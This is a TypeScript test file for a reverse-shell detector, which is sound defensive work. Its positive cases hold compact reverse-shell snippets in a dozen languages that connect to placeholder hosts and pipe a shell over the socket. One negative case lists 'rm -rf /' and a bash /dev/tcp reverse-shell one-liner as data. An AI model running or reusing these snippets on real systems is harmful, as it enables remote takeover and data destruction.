import { describe, expect, test } from 'vitest'
import { codeDrafts, scanCode } from './index.ts'
import { joinsShell } from './remote-shell.ts'

const isRemoteShell = (drafts: ReturnType<typeof scanCode>): boolean =>
  drafts.some((draft) => draft.do === 'effect' && draft.tag === 'remote-shell')

describe('a shell for the other side', () => {
  test.each([
    [
      'Go',
      'import ("net"; "os/exec")\nfunc main() { c, _ := net.Dial("tcp", "h:1"); e := exec.Command("/bin/sh"); e.Stdin = c; e.Stdout = c; e.Run() }',
    ],
    ['Go, command by command', 'm, _ := bufio.NewReader(conn).ReadString(10); exec.Command("sh", "-c", m); net.Dial("tcp", "h:1")'],
    ['Java', 'Process p = new ProcessBuilder("sh").start(); Socket s = new Socket("h", 1);'],
    ['Rust', 'let s = TcpStream::connect("h:1"); Command::new("/bin/bash").stdin(s).spawn();'],
    ['C', 'socket(2, 1, 0); dup2(s, 0); execl("/bin/sh", "sh", NULL);'],
    ['Tcl', 'set s [socket 10.0.0.1 4444]; while 1 { gets $s c; catch {set r [eval exec $c]}; puts $s $r }'],
    ['Tcl, as words', 'set s [socket h.example 4444]; while 1 {puts $s [exec {*}[gets $s]]; flush $s}'],
    ['Julia', 's = connect("10.0.0.1", 4444)\nrun(pipeline(`sh -i`, stdin=s, stdout=s))'],
    ['Deno', 'const c = await Deno.connect({ port: 1 }); const p = new Deno.Command("/bin/sh", { stdin: "piped" }).spawn()'],
    ['Bun', 'Bun.connect({ socket: { data(s, d) { s.write(Bun.spawnSync(["sh", "-c", d.toString()]).stdout) } } })'],
    ['Ruby', 'c = TCPSocket.new("h", 1); while (cmd = c.gets); IO.popen(cmd, "r") { |io| c.print io.read } end'],
    ['PHP', '$s = fsockopen("h", 1); while (!feof($s)) { fwrite($s, shell_exec(fgets($s))); }'],
  ])('%s', (_language, text) => {
    expect(joinsShell(text)).toBe(true)
  })
})

describe('a connection beside a program of its own', () => {
  test.each([
    ['waiting for a database', 'TCPSocket.new("localhost", 5432).close\nsystem("bundle exec rspec")'],
    ['the name of the machine', 'puts Socket.gethostname\nsystem("git status")'],
    ['a clock', 'local socket = require("socket")\nprint(socket.gettime())\nos.execute("git status")'],
    ['a script for a shell', 'net.Dial("tcp", "localhost:1")\nexec.Command("sh", "-c", "go test ./...").Run()'],
    ['a file for a shell', 's = socket.create_connection(("localhost", 1))\nsubprocess.run(["bash", "run.sh"])'],
    ['a file by its name', 's = socket.create_connection(("localhost", 1))\nsubprocess.run(["bash", script])'],
    ['shells to choose from', 'net.Listen("tcp", ":0")\nvar shells = map[string]bool{"bash": true, "sh": true}'],
    ['output for people', 'const p = spawn("npm", ["test"]); p.stdout.pipe(process.stdout); net.connect(5432)'],
    ['commands to tell apart', 'net.Listen("tcp", ":0")\nfor _, c := range []string{"rm -rf /", "bash -i >& /dev/tcp/h/1 0>&1"} {'],
    ['another program', 'const p = spawn("tsserver", ["--stdio"]); net.createServer((s) => { s.pipe(p.stdin); p.stdout.pipe(s) })'],
    ['names of shells', 'static String[] names = {"sh", "bash"}; new Socket("localhost", p); new ProcessBuilder("bash", "-c", c)'],
    ['no connection', 'subprocess.call(["/bin/sh", "-i"])'],
  ])('%s', (_what, text) => {
    expect(joinsShell(text)).toBe(false)
  })
})

test('of the project only what is plain counts, on the line both', () => {
  const waits = 'require "socket"\nTCPSocket.new("localhost", 5432)\nsystem("date")'
  expect(isRemoteShell(scanCode('ruby', waits))).toBe(false)
  expect(isRemoteShell(codeDrafts('ruby', waits))).toBe(true)
  expect(isRemoteShell(scanCode('go', 'net.Dial("tcp", "h:1")\nexec.Command("/bin/sh")'))).toBe(true)
})
